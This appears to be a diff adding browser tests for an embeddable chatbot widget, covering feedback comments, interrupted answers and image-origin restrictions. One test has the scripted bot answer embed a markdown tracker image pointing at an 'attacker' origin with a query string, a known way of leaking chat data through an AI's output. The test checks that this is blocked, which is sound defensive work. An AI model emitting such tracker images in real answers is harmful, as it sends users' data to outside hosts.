@@ -8,7 +8,7 @@ import httpx
 import pytest
 from playwright.sync_api import expect
 
-from tests.browser.conftest import embed_page, payloads, start_deployment
+from tests.browser.conftest import Site, bot_spec, embed_page, payloads, start_deployment, tiny_png
 from tests.conftest import LiveServer
 
 pytestmark = pytest.mark.browser
@@ -418,3 +418,123 @@ def test_widget_script_is_served_cacheable_to_any_site(deployment):
     assert again.status_code == 304
     missing = httpx.get(f"{deployment.url}/chat/bot_doesnotexist")
     assert missing.status_code == 404 and missing.json()["error"]["code"] == "bot_not_found"
+
+
+def test_thumbs_down_asks_for_an_optional_comment_that_is_stored(browser, deployment, site, scripted_model, artifacts):
+    site.pages["/"] = embed_page(deployment.url, deployment.bot_id, deployment.key)
+    scripted_model.rules = [("return", RETURN_ANSWER)]
+    scripted_model.pause_on = None
+    context = browser.new_context(viewport={"width": 1100, "height": 760})
+    page = open_page(context, site.origin + "/")
+    page.get_by_role("button", name="Open chat").click()
+    page.get_by_role("button", name=STARTER).click()
+    answer = widget(page).locator(".msg.bot").last
+    expect(answer).to_contain_text("drop the parcel off")
+
+    answer.get_by_role("button", name="Not helpful").click()
+    comment = answer.get_by_role("textbox", name="What went wrong? (optional)")
+    expect(comment).to_be_focused()
+    expect(answer.get_by_role("button", name="Not helpful")).to_have_attribute("aria-pressed", "true")
+    # The rating counts before any comment is written.
+    assert conversation(deployment, page, deployment.bot_id)["messages"][1]["feedback"] == {
+        "rating": "down", "comment": ""}
+    comment.fill("The label printer step is missing for parcels abroad.")
+    page.screenshot(path=artifacts / "feedback-comment.png")
+    with page.expect_response(lambda r: r.url.endswith("/feedback")) as sent:
+        comment.press("Enter")
+    assert sent.value.status == 204
+    expect(comment).to_have_count(0)
+    expect(answer).to_contain_text("Thanks for your feedback.")
+
+    conversation_id = stored_session(page, deployment.bot_id)["conversation_id"]
+    detail = deployment.admin.get(f"/admin/bots/{deployment.bot_id}/conversations/{conversation_id}").json()
+    assert detail["messages"][1]["feedback"] == {
+        "rating": "down", "comment": "The label printer step is missing for parcels abroad."}
+    # Changing one's mind to a thumbs-up asks nothing more.
+    answer.get_by_role("button", name="Helpful", exact=True).click()
+    expect(answer.get_by_role("button", name="Helpful", exact=True)).to_have_attribute("aria-pressed", "true")
+    expect(answer.locator(".why")).to_have_count(0)
+    assert page.problems == []
+    context.close()
+
+
+def test_interrupted_answer_keeps_its_marker_after_a_reload(browser, deployment, site, scripted_model, artifacts):
+    site.pages["/"] = embed_page(deployment.url, deployment.bot_id, deployment.key)
+    scripted_model.rules = [("shipping", "Standard shipping takes 3 to 5 working days; express shipping "
+                                         "takes 1 day and costs 9 euros.")]
+    scripted_model.pause_on = None
+    scripted_model.cut_on = "Standard shipping"
+    try:
+        context = browser.new_context(viewport={"width": 1100, "height": 760})
+        page = open_page(context, site.origin + "/")
+        page.get_by_role("button", name="Open chat").click()
+        page.get_by_role("button", name="How long does shipping take?").click()
+        answer = widget(page).locator(".msg.bot").last
+        expect(answer).to_contain_text("The answer was interrupted.")
+        expect(answer).to_contain_text("Standard")
+        live = answer.locator(".content").inner_text()
+
+        page.reload()
+        answer = widget(page).locator(".msg.bot").last
+        expect(answer).to_contain_text("The answer was interrupted.")
+        assert answer.locator(".content").inner_text() == live
+        # Like live: an answer that never finished offers no rating.
+        expect(answer.locator(".fb")).to_have_count(0)
+        page.screenshot(path=artifacts / "interrupted-reloaded.png")
+        assert conversation(deployment, page, deployment.bot_id)["messages"][1]["partial"] is True
+        context.close()
+    finally:
+        scripted_model.cut_on = None
+
+
+@pytest.fixture(scope="module")
+def images():
+    s = Site()
+    s.pages["/label.png"] = tiny_png()
+    yield s
+    s.close()
+
+
+def test_answer_images_load_only_from_the_bots_image_origins(
+        browser, deployment, site, attacker, images, scripted_model, artifacts):
+    spec = bot_spec(scripted_model.base_url, deployment.origins, "en")
+    spec["widget"]["image_origins"] = [images.origin]
+    bot_id, key = deployment.publish_bot("Acme Pictures", spec, "en", documents={"labels.txt": (
+        "Parcel labels\n\nThe parcel label is a white sticker with a barcode, the return address and "
+        "your order number. Print the parcel label and stick it on the parcel.\n")})
+    assert deployment.admin.get(f"{deployment.url}/v1/bots/{bot_id}/config").json()["image_origins"] == [images.origin]
+    scripted_model.rules = [("label", f"Here is the label: ![parcel label]({images.origin}/label.png) "
+                                      f"and ![tracker]({attacker.origin}/pixel.png?q=label)")]
+    scripted_model.pause_on = None
+    site.pages["/pictures"] = embed_page(deployment.url, bot_id, key)
+    # A page may narrow the bot's list (here to nothing it allows), never widen it.
+    site.pages["/narrowed"] = embed_page(deployment.url, bot_id, key,
+                                         script_attrs=f' data-image-origins="{attacker.origin}"')
+    context = browser.new_context(viewport={"width": 1100, "height": 760})
+    page = open_page(context, site.origin + "/pictures")
+    page.get_by_role("button", name="Open chat").click()
+    widget(page).locator("textarea").fill("What does the parcel label look like?")
+    widget(page).locator("textarea").press("Enter")
+    answer = widget(page).locator(".msg.bot").last
+    expect(answer.locator(".fb")).to_be_visible()
+    picture = answer.get_by_role("img", name="parcel label")
+    expect(picture).to_have_js_property("naturalWidth", 96)
+    expect(answer.locator(".img-alt")).to_have_text("image: tracker")
+    page.screenshot(path=artifacts / "answer-image.png")
+    assert "/label.png" in images.hits
+
+    narrowed = open_page(context, site.origin + "/narrowed")
+    narrowed.get_by_role("button", name="Open chat").click()
+    answer = widget(narrowed).locator(".msg.bot").last
+    expect(answer).to_contain_text("Here is the label")
+    expect(answer.locator("img")).to_have_count(0)
+    expect(answer.locator(".img-alt")).to_have_text(["image: parcel label", "image: tracker"])
+
+    # The hosted page's CSP lets the same origins through, and only those.
+    hosted = open_page(context, f"{deployment.url}/chat/{bot_id}?key={key}")
+    widget(hosted).locator("textarea").fill("Show me the parcel label")
+    widget(hosted).locator("textarea").press("Enter")
+    expect(widget(hosted).get_by_role("img", name="parcel label")).to_have_js_property("naturalWidth", 96)
+    assert attacker.hits == []
+    assert page.problems == [] and narrowed.problems == [] and hosted.problems == []
+    context.close()
